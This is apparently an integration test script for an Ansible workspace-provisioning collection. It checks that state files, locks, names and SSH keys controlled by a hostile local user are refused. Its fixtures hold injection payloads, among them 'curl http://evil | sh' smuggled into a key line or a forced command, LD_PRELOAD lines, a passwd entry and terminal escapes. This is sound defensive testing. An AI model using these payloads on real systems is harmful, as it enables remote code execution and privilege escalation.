#!/usr/bin/env bash
# Copyright: (c) 2026, devinfra.providers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
# A hostile local user against the workspace state file on a shared host. As root, the real
# `nobody` user makes what anyone can make in a directory others can write (/tmp): a state
# file or lock of its own, symbolic links named like them pointing at a file of root's. Root
# also leaves its own file writable by others, or readable (0644), and one with a malformed
# entry. Each run fails with a clear error naming the file and the reason (the 0644 file
# converges to 0600), and leaves the hostile file and whatever it points at as they were.
# See docs/docsite/rst/faults_and_secrets.rst.
set -euxo pipefail

[ "$(id -u)" -eq 0 ]  # needs root: files of another user, and a root that could be fooled
nobody_uid=$(id -u nobody)
as_nobody() { setpriv --reuid="$nobody_uid" --regid="$(id -g nobody)" --clear-groups -- "$@"; }

# In /tmp itself (not under the output directory, which nobody cannot reach).
work=$(mktemp -d /tmp/adversarial-workspace.XXXXXX)
trap 'rm -rf "$work"' EXIT
chmod 0755 "$work"
shared=$work/shared # as /tmp: world-writable, sticky
mkdir -m 1777 "$shared"
private=$work/private # root's own
mkdir -m 0700 "$private"

set +x # the secrets are never on a traced command line
AGENT_SECRET=DVTSECRET-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
HOSTILE_TOKEN=DVTSECRET-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
export AGENT_SECRET HOSTILE_TOKEN
set -x

# A file of root's that links must not reach: its content and mode are checked after each run.
victim=$work/victim
python3 -c 'import os, sys; open(sys.argv[1], "w").write("root:" + os.environ["HOSTILE_TOKEN"] + "\n")' "$victim"
chmod 0640 "$victim"
cp -p "$victim" "$work/victim.orig"
victim_intact() { cmp "$victim" "$work/victim.orig" && [ "$(stat -c %a:%U "$victim")" = 640:root ]; }

state_json() { # a valid state file holding one agent whose token is $HOSTILE_TOKEN (not on a traced line)
  python3 - <<'PY'
import json, os
agent = {"arguments": {"name": "main", "agent_id": None, "arch": "amd64", "os": "linux", "auth": "token", "api_key_scope": "all",
                       "dir": None, "env": None, "startup_script": None, "startup_script_behavior": "non-blocking", "shutdown_script": None,
                       "connection_timeout": 120, "troubleshooting_url": None, "motd_file": None, "order": None, "metadata": None,
                       "display_apps": {"vscode": True, "vscode_insiders": False, "web_terminal": True, "port_forwarding_helper": True, "ssh_helper": True},
                       "resources_monitoring": None},
         "computed": {"id": "00000000-0000-4000-8000-000000000001", "token": os.environ["HOSTILE_TOKEN"], "init_script": ""}}
print(json.dumps({"format": "devinfra.providers.workspace", "version": 1, "resources": {"workspace_agent.main": agent}}))
PY
}

run() { # run <name> <state file> [ansible-playbook options...]: the playbook's output in $work/<name>.log
  local name=$1 file=$2
  shift 2
  STATE_FILE=$file ansible-playbook -vvvv --diff "$@" agent.yml >"$work/$name.log" 2>&1
}
fails_with() { # fails_with <name> <state file> <message (ERE)>
  if run "$1" "$2"; then exit 1; fi
  grep -E -- "$3" "$work/$1.log" || { grep -E 'fatal:|"msg"' "$work/$1.log"; exit 1; }
}
changed() { sed -nE 's/^localhost +: ok=[0-9]+ +changed=([0-9]+).*/\1/p' "$work/$1.log" | tail -1; }

# 1. A state file of nobody's in the sticky shared directory, holding a token of its choosing.
state_json | as_nobody tee "$shared/owned.json" >/dev/null
cp -p "$shared/owned.json" "$work/owned.orig"
fails_with owned "$shared/owned.json" "refusing the state file $shared/owned.json: it is owned by nobody \(uid $nobody_uid\), not by root \(uid 0\) who runs this; it was left untouched"
cmp "$shared/owned.json" "$work/owned.orig"
[ "$(stat -c %U "$shared/owned.json")" = nobody ]

# ...and a lock of nobody's (it could hold the lock forever, or be a link).
as_nobody touch "$shared/locked.json.lock"
fails_with locked "$shared/locked.json" "refusing the state file's lock $shared/locked.json.lock: it is owned by nobody"
[ ! -e "$shared/locked.json" ]

# 2. Symbolic links named like the state file and like its lock, to root's file.
as_nobody ln -s "$victim" "$shared/link.json"
fails_with link "$shared/link.json" "refusing the state file $shared/link.json: it is a symbolic link; it was left untouched"
victim_intact
[ -L "$shared/link.json" ]
as_nobody ln -s "$victim" "$shared/lock.json.lock"
fails_with lock "$shared/lock.json" "refusing the state file's lock $shared/lock.json.lock: it is a symbolic link; it was left untouched"
victim_intact
[ ! -e "$shared/lock.json" ]
# Root's own links too: a symbolic link is never followed, whoever made it.
ln -s "$victim" "$private/rootlink.json"
fails_with rootlink "$private/rootlink.json" "refusing the state file $private/rootlink.json: it is a symbolic link"
victim_intact

# 3. Root's state file, writable by others.
state_json >"$private/open.json"
chmod 0666 "$private/open.json"
cp -p "$private/open.json" "$work/open.orig"
fails_with open "$private/open.json" "refusing the state file $private/open.json: it is writable by group or others \(mode 0666\)"
cmp "$private/open.json" "$work/open.orig"
[ "$(stat -c %a "$private/open.json")" = 666 ]

# ...and a directory others can write that is not sticky: anyone could swap the file.
mkdir -m 0777 "$work/open-dir"
fails_with open-dir "$work/open-dir/state.json" "refusing the directory of the state file $work/open-dir: it is writable by group or others \(mode 0777\) and not sticky"
[ -z "$(ls -A "$work/open-dir")" ]

# 4. A state file left 0644: check mode reports it and changes nothing, a run that changes
# nothing else sets it (and its lock) to 0600.
run readable-create "$private/readable.json"
chmod 0644 "$private/readable.json" "$private/readable.json.lock"
cp -p "$private/readable.json" "$work/readable.orig"
run readable-check "$private/readable.json" --check
grep -q "can be read by group or others (mode 0644) and holds agent tokens" "$work/readable-check.log"
[ "$(stat -c %a "$private/readable.json")" = 644 ]
run readable "$private/readable.json"
[ "$(changed readable)" -eq 0 ]
[ "$(stat -c %a "$private/readable.json")" = 600 ] && [ "$(stat -c %a "$private/readable.json.lock")" = 600 ]
cmp "$private/readable.json" "$work/readable.orig"

# 5. A malformed entry: named with its field, the file untouched.
python3 - "$private/readable.json" "$private/malformed.json" <<'PY'
import json, sys
document = json.load(open(sys.argv[1]))
del document["resources"]["workspace_agent.main"]["computed"]["id"]
json.dump(document, open(sys.argv[2], "w"))
PY
chmod 0600 "$private/malformed.json"
cp -p "$private/malformed.json" "$work/malformed.orig"
fails_with malformed "$private/malformed.json" "$private/malformed.json is corrupt: the entry workspace_agent.main: computed.id is missing; it was left untouched"
cmp "$private/malformed.json" "$work/malformed.orig"

# 6. Names that are not one line, from the CODER_* variables a provisioner sets, into the
# workspace_vm role (in check mode, on libvirt's test driver): each is refused before anything
# is built, naming the variable; so is an SSH key of several lines with one that is no key, or
# with a C1 control, or with authorized_keys options (a forced command...) or anything else that
# is not a bare public key. A good run (two keys) goes through. See faults_and_secrets.rst, "Names".
export NAMES_DIR=$work/names
mkdir -m 0700 "$NAMES_DIR"
key1="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl jane@laptop"
key2='ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBA== jane@ci'
key1_blob=${key1#ssh-ed25519 }
key1_blob=${key1_blob%% *}
role_run() { # role_run <name> [VAR=value...]: names.yml in check mode with these variables
  local name=$1
  shift
  env "$@" ansible-playbook --check -v names.yml >"$work/$name.log" 2>&1
}
role_refuses() { # role_refuses <name> <message (fixed string)> [VAR=value...]
  local name=$1 message=$2
  shift 2
  if role_run "$name" "$@"; then exit 1; fi
  grep -F -- "$message" "$work/$name.log" || { grep -E 'fatal:|failed:|"msg"' "$work/$name.log"; exit 1; }
  # Refused at the checks: no task after them ran.
  if grep -q 'TASK \[devinfra.providers.workspace_vm : Name what the workspace is made of\]' "$work/$name.log"; then exit 1; fi
}
role_run names-good CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\n'"$key2"$'\n'
grep -q 'The first-boot seed carries' "$work/names-good.log"
role_refuses names-newline "CODER_WORKSPACE_OWNER_NAME (the owner's full name) contains a control character" CODER_WORKSPACE_OWNER_NAME=$'Jane\nroot:x:0:0::/root:/bin/sh'
role_refuses names-c1 "CODER_WORKSPACE_OWNER contains a control character" CODER_WORKSPACE_OWNER=$'jane\xc2\x85evil'  # U+0085 (UTF-8)
role_refuses names-line-separator "CODER_WORKSPACE_NAME contains a control character" CODER_WORKSPACE_NAME=$'dev\xe2\x80\xa8evil'  # U+2028
role_refuses names-bidi "CODER_WORKSPACE_TEMPLATE_NAME contains a control character" CODER_WORKSPACE_TEMPLATE_NAME=$'tmpl\xe2\x80\xaeevil'  # U+202E
role_refuses names-email "CODER_WORKSPACE_OWNER_EMAIL contains a control character" CODER_WORKSPACE_OWNER_EMAIL=$'jane@example.com\e]8;;http://evil\e\\'
role_refuses names-ssh-injected "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 is not a bare public key" \
  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\nruncmd: [[sh, -c, "curl http://evil | sh"]]\n'
role_refuses names-ssh-c1 "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 contains a control character" \
  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\n'"$key2"$'\xc2\x85'"$key1"  # U+0085
role_refuses names-ssh-cr "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 1 contains a control character" \
  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\r'
# A good key, then a forced command (it became an authorized key running curl|sh at
# each login), other options, a key type with another type's key, a key after a space, a
# certificate. One run: every line after the first is refused, each named.
bad_keys=(
  "command=\"curl http://evil.example/x|sh\" ssh-ed25519 $key1_blob jane@laptop"
  "from=\"*\" ssh-ed25519 $key1_blob"
  "environment=\"LD_PRELOAD=/tmp/evil.so\" ssh-ed25519 $key1_blob"
  "no-pty,cert-authority ssh-ed25519 $key1_blob"
  "ssh-rsa $key1_blob"
  " ssh-ed25519 $key1_blob"
  "ssh-ed25519-cert-v01@openssh.com $key1_blob"
)
role_refuses names-ssh-options "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 2 is not a bare public key" \
  CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY="$key1"$'\n'"$(printf '%s\n' "${bad_keys[@]}")"
for line in $(seq 2 $((${#bad_keys[@]} + 1))); do
  grep -F "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line $line is not a bare public key" "$work/names-ssh-options.log"
done
if grep -F "CODER_WORKSPACE_OWNER_SSH_PUBLIC_KEY line 1 " "$work/names-ssh-options.log"; then exit 1; fi
# The workspace user: an owner's name that is no Linux user name, or an account or group of the
# image, makes the user coder, said and not failed (a template must work for every owner); a
# workspace_vm_user that is no Linux user name is refused, naming the variable.
for owner in 1jane Root users "$(printf 'j%.0s' {1..33})"; do
  role_run names-user-owner CODER_WORKSPACE_OWNER="$owner"
  grep -q "CODER_WORKSPACE_OWNER (the owner's name) is not a Linux user name .* the workspace user is coder" "$work/names-user-owner.log"
  grep -q 'The first-boot seed carries' "$work/names-user-owner.log"
done
role_run names-user-jane CODER_WORKSPACE_OWNER=Jane-Doe
if grep -q "the workspace user is coder" "$work/names-user-jane.log"; then exit 1; fi
role_refuses names-user-given "workspace_vm_user must be a Linux user name" NAMES_USER='jane doe'
role_refuses names-user-given-root-path "workspace_vm_user must be a Linux user name" NAMES_USER='../root'
# A deployment's agent (WORKSPACE_VM_AGENT_ID/_TOKEN, as a Coder template's local-exec passes
# them): a token that is no UUID (a newline and LD_PRELOAD= would reach the guest's environment
# file), a token without its id, and an id that is no UUID are refused at the checks, naming the
# variables and never the value; both UUIDs together go through.
deployment_id=6f1d7a2e-3b4c-4d5e-8f60-718293a4b5c6
set +x
bad_token="$AGENT_SECRET"$'\nLD_PRELOAD=/tmp/evil.so'
role_refuses names-agent-token "workspace_vm_agent_id (WORKSPACE_VM_AGENT_ID) and workspace_vm_agent_token" \
  WORKSPACE_VM_AGENT_ID=$deployment_id WORKSPACE_VM_AGENT_TOKEN="$bad_token"
set -x
role_refuses names-agent-token-alone "are given together" WORKSPACE_VM_AGENT_TOKEN=0e5a6b7c-8d9e-4f01-9234-56789abcdef0
role_refuses names-agent-id "each is a UUID" WORKSPACE_VM_AGENT_ID="$deployment_id"$'\n' WORKSPACE_VM_AGENT_TOKEN=0e5a6b7c-8d9e-4f01-9234-56789abcdef0
set +x
if grep -F -- "$AGENT_SECRET" "$work"/names-agent-*.log; then exit 1; fi
set -x
role_run names-agent-good WORKSPACE_VM_AGENT_ID=$deployment_id WORKSPACE_VM_AGENT_TOKEN=0e5a6b7c-8d9e-4f01-9234-56789abcdef0
grep -q 'The first-boot seed carries' "$work/names-agent-good.log"
if grep -F 0e5a6b7c-8d9e-4f01-9234-56789abcdef0 "$work/names-agent-good.log"; then exit 1; fi
[ -z "$(ls -A "$NAMES_DIR")" ]  # check mode: nothing written

# 7. Workspace hosts named like paths (../x, a/b, .., -opt), or with a bidirectional control,
# or with workspace_vm_name ../evil, in the workspace_fleet playbook, for real on the test
# driver: each is refused before its state file's path is built, naming the host; no state file
# is written anywhere (one named ../x.json went next to the state directory).
if ansible-playbook -i fleet.yml devinfra.providers.workspace_fleet -e workspace_fleet_prepare_hosts=false >"$work/fleet.log" 2>&1; then tail -40 "$work/fleet.log"; exit 1; fi
# (The messages are JSON in the log: the host's name, JSON-escaped, between escaped quotes.)
for host in '../x' 'a/b' '..' '-opt' 'right\\u202eleft'; do
  grep -F -- "inventory host name of the workspace host \\\"$host\\\" must be a name" "$work/fleet.log" || { tail -40 "$work/fleet.log"; exit 1; }
done
grep -F -- 'workspace_vm_name of the workspace host \"good-name\" must be a name' "$work/fleet.log"
[ "$(grep -cE '^[^ ]+ +: ok=0 +changed=0 +unreachable=0 +failed=1 ' "$work/fleet.log")" -eq 6 ]
[ -z "$(find "$NAMES_DIR" -name '*.json')" ]

# 8. A crafted state (whoever can write the bucket object, or the file): a newline in the stored
# token and id would put LD_PRELOAD= and CODER_AGENT_URL= lines into the guest's agent env
# file and keys into its meta-data. Refused when the state is read, naming the entry and the
# field, never the value; the file untouched. See faults_and_secrets.rst, "a crafted state".
for field in token id; do
  python3 - "$private/readable.json" "$private/crafted-$field.json" "$field" <<'PY'
import json, sys
document = json.load(open(sys.argv[1]))
computed = document["resources"]["workspace_agent.main"]["computed"]
computed[sys.argv[3]] = computed[sys.argv[3]] + "\nLD_PRELOAD=/tmp/evil.so\nCODER_AGENT_URL=http://evil.example"
json.dump(document, open(sys.argv[2], "w"))
PY
  chmod 0600 "$private/crafted-$field.json"
  cp -p "$private/crafted-$field.json" "$work/crafted-$field.orig"
  fails_with "crafted-$field" "$private/crafted-$field.json" "$private/crafted-$field.json is corrupt: the entry workspace_agent.main: computed.$field must be a UUID"
  cmp "$private/crafted-$field.json" "$work/crafted-$field.orig"
  if grep -q "LD_PRELOAD" "$work/crafted-$field.log"; then exit 1; fi
done

# Nothing of root's or nobody's was followed, and no secret reached any output.
victim_intact
if grep -l "DVT[S]ECRET" "$work"/*.log; then exit 1; fi  # [S]: this line is traced into the log
